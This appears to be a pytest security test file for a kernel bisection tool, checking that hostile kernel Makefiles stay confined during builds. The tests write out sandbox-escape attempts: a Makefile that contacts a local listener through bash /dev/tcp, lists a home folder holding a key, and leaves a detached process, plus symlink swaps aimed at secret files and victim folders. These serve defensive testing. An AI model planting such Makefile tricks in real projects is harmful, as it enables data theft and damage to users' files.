# SPDX-License-Identifier: GPL-2.0-only
"""A tree whose Makefile and Kconfig mean harm, built by the real target: nothing is left, nothing read or written
elsewhere, and its verdict is that of any tree."""

from __future__ import annotations

import os
import socket
from collections.abc import Iterator
from pathlib import Path

import pytest
from fake_kernel import MAKEFILE
from kernel_setup import KernelSetup

from bisector.errors import InfraError
from bisector.target.build_dirs import BuildDir, manifest

BUILT = '@echo "  BUILD   $@"; cp kernel.bin $@'
LASTING = f"{40000 + os.getpid()}"


@pytest.fixture
def server() -> Iterator[socket.socket]:
    with socket.create_server(("127.0.0.1", 0)) as listening:
        listening.settimeout(0.1)
        yield listening


def evil(home: Path, port: int) -> str:
    """A Makefile that does its harm whenever make reads it, which configuring does, too."""
    places = (home / "owned", Path("/var/tmp/bisector-owned"), Path("/tmp/bisector-owned"), Path("/owned"))
    writes = " ".join(f"echo owned >{place};" for place in places)
    fork = f"setsid sleep {LASTING} >/dev/null 2>&1 &"
    net = f"bash -c 'echo hello >/dev/tcp/127.0.0.1/{port}';"
    seen = f"ls -A {home} >$(CCACHE_DIR)/seen;"
    return f"$(shell {{ {writes} {net} {seen} {fork} }} 2>/dev/null)\n" + MAKEFILE


def test_nothing_of_a_hostile_tree_gets_out(
    setup: KernelSetup, server: socket.socket, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    home = tmp_path / "home"
    home.mkdir()
    (home / "key").write_text("secret")
    monkeypatch.setenv("HOME", str(home))
    candidate = setup.candidate(files={"Makefile": evil(home, server.getsockname()[1])})
    honest = setup.clean(setup.candidate("honest"))
    assert setup.build(setup.target(), candidate).identity == honest.identity
    assert [path.name for path in home.iterdir()] == ["key"]
    assert not any(Path(place).exists() for place in ("/var/tmp/bisector-owned", "/tmp/bisector-owned", "/owned"))
    assert (tmp_path / "a/cache/ccache/seen").read_text() == ""
    with pytest.raises(TimeoutError):
        server.accept()
    commands = [path.read_bytes() for path in Path("/proc").glob("[0-9]*/cmdline")]
    assert not [command for command in commands if LASTING.encode() in command]


LINKS = {
    "the kernel": "rm -f arch/x86/boot/bzImage; ln -s {secret} arch/x86/boot/bzImage",
    "a folder of it": "mv arch moved; ln -s {folder} arch",
    "its release": "ln -sf {secret} include/config/kernel.release",
    "an endless file": "rm -f vmlinux; ln -s /dev/zero vmlinux",
    "a pipe": "rm -f vmlinux; mkfifo vmlinux",
}


@pytest.mark.parametrize("how", LINKS)
def test_a_link_in_place_of_a_result_is_not_followed(setup: KernelSetup, tmp_path: Path, how: str) -> None:
    secret = tmp_path / "secret/x86/boot/bzImage"
    secret.parent.mkdir(parents=True)
    secret.write_text("secret")
    does = LINKS[how].format(secret=secret, folder=tmp_path / "secret")
    makefile = MAKEFILE.replace(BUILT, f"{BUILT}; {does}")
    failure = setup.failure(setup.target(), setup.candidate(files={"Makefile": makefile}))
    assert failure.stage == "compile" and "not a plain file" in failure.errors[0]
    assert "secret" not in "".join(path.read_text(errors="replace") for path in (tmp_path / "a/cache").rglob("*.json"))


def test_a_link_in_place_of_the_config_is_not_written_through(setup: KernelSetup, tmp_path: Path) -> None:
    victim = tmp_path / "victim"
    victim.write_text("mine\n")
    leave = f"; rm -f .config; ln -s {victim} .config; ln -sf {victim} clock"
    makefile = MAKEFILE.replace(BUILT, BUILT + leave)
    target = setup.target()
    setup.failure(target, setup.candidate(files={"Makefile": makefile}))
    setup.build(target, setup.candidate("next"))
    assert victim.read_text() == "mine\n"


DEEP = "python3 -c 'import os; [(os.mkdir(name), os.chdir(name)) for name in 3000 * [10 * chr(100)]]'"


def test_folders_too_deep_to_be_listed_cost_the_objects_and_no_more(setup: KernelSetup) -> None:
    target = setup.target()
    makefile = MAKEFILE.replace(BUILT, f"{BUILT}; {DEEP}")
    setup.build(target, setup.candidate(files={"Makefile": makefile}))
    assert setup.build(target, setup.candidate("next")).identity == setup.clean(setup.candidate("next")).identity


def test_installed_modules_may_be_no_link_to_elsewhere(setup: KernelSetup, tmp_path: Path) -> None:
    elsewhere = tmp_path / "elsewhere/6.0"
    elsewhere.mkdir(parents=True)
    (elsewhere / "build").write_text("mine\n")
    makefile = MAKEFILE.replace(
        "\t@ln -s $(CURDIR) $(installed)/build && touch $(installed)/modules.dep",
        f"\t@rm -rf $(INSTALL_MOD_PATH)/lib/modules; ln -s {elsewhere.parent} $(INSTALL_MOD_PATH)/lib/modules",
    )
    files = {"Makefile": makefile, "drivers/extra.m": "module\n"}
    failure = setup.failure(setup.target(fragment="CONFIG_MODULES=y\n"), setup.candidate(files=files))
    assert "left a link" in failure.errors[0]
    assert (elsewhere / "build").read_text() == "mine\n"


SWAP = "(cd ..; mv .objects moved; ln -s {victim} .objects)"
FULL = "echo 'x.c: fatal error: error writing to /tmp/x.s: No space left on device' >&2; exit 1"
CONFIGURES = "allnoconfig: ; @$(call known,$(KCONFIG_ALLCONFIG))"
SWAPS = {
    "after configuring": MAKEFILE.replace(CONFIGURES, f"{CONFIGURES}; {SWAP}"),
    "after all": MAKEFILE.replace(BUILT, f"{BUILT}; {SWAP}"),
    "by a dangling link": MAKEFILE.replace(BUILT, f"{BUILT}; (cd ..; mv .objects moved; ln -s nowhere .objects)"),
    "by a file": MAKEFILE.replace(BUILT, f"{BUILT}; (cd ..; mv .objects moved; touch .objects)"),
    "by nothing": MAKEFILE.replace(BUILT, f"{BUILT}; (cd ..; mv .objects moved)"),
}


@pytest.fixture
def victim(tmp_path: Path) -> Path:
    """A folder of the user's that looks as an object folder does, with an object that has no source any more."""
    folder = tmp_path / "victim"
    (folder / "drivers").mkdir(parents=True)
    (folder / ".config").write_text("CONFIG_MINE=y\n")
    (folder / "drivers/mine.o").write_text("mine\n")
    (folder / "drivers/.mine.o.cmd").write_text("savedcmd_drivers/mine.o := cc\n\nsource_drivers/mine.o := ../gone.c\n")
    return folder


@pytest.mark.parametrize("how", SWAPS)
def test_an_object_folder_that_was_replaced_is_not_entered(setup: KernelSetup, victim: Path, how: str) -> None:
    before, target = manifest(victim), setup.target()
    evil = setup.candidate(files={"Makefile": SWAPS[how].replace("{victim}", str(victim))})
    failure = setup.failure(target, evil)
    assert "left no folder of objects" in failure.errors[0]
    assert setup.build(target, setup.candidate("next")).identity == setup.clean(setup.candidate("next")).identity
    assert manifest(victim) == before


def test_an_object_folder_that_was_replaced_is_not_rolled_back(setup: KernelSetup, victim: Path) -> None:
    before, target = manifest(victim), setup.target()
    swap = SWAP.replace("{victim}", str(victim))
    evil = setup.candidate(files={"Makefile": MAKEFILE.replace(BUILT, f"{BUILT}; {swap}; {FULL}")})
    with pytest.raises(InfraError, match="No space left"):  # so that its work is undone
        setup.failure(target, evil)
    assert setup.build(target, setup.candidate("next")).identity == setup.clean(setup.candidate("next")).identity
    assert manifest(victim) == before


def test_objects_that_a_tree_brings_are_not_taken_for_ours(setup: KernelSetup) -> None:
    target = setup.target()
    first = setup.build(target, setup.candidate())
    poison = {".objects/drivers/core.o": "poison", ".objects/vmlinux": "poison"}
    failure = setup.failure(target, setup.candidate("evil", files=poison))
    assert failure.stage == "config" and "holds .objects" in failure.errors[0]
    again = setup.candidate("again", files={"drivers/disk.c": "disk 2\n"})
    assert setup.build(target, again).identity == setup.clean(again).identity != first.identity


def test_installed_modules_may_be_no_release_elsewhere(setup: KernelSetup, tmp_path: Path) -> None:
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    (elsewhere / "build").write_text("mine\n")
    (elsewhere / "modules.dep").touch()
    linked = f"\t@ln -s $(CURDIR) $(installed)/build && touch $(installed)/modules.dep; ln -s {elsewhere} "
    makefile = MAKEFILE.replace(
        "\t@ln -s $(CURDIR) $(installed)/build && touch $(installed)/modules.dep",
        f"{linked}$(INSTALL_MOD_PATH)/lib/modules/build",
    )
    files = {"Makefile": makefile, "drivers/extra.m": "module\n"}
    failure = setup.failure(setup.target(fragment="CONFIG_MODULES=y\n"), setup.candidate(files=files))
    assert "left a link" in failure.errors[0]
    assert (elsewhere / "build").read_text() == "mine\n"


def test_what_a_killed_build_does_last_is_seen(
    setup: KernelSetup, victim: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    setup.build(setup.target(), setup.candidate())
    before, build_dir = manifest(victim), BuildDir(setup.build_dir())
    at_work = build_dir.tree / ".objects"
    (build_dir.folder / "objects").rename(at_work)
    (build_dir.folder / "journal.json").write_text("{}")

    def last_act(_: BuildDir) -> None:
        if at_work.exists():
            at_work.rename(build_dir.tree / "moved")
        at_work.symlink_to(victim)

    monkeypatch.setattr(BuildDir, "_wait_for_the_dead", last_act)
    build_dir.recover()
    assert build_dir.cold and not at_work.is_symlink() and manifest(victim) == before
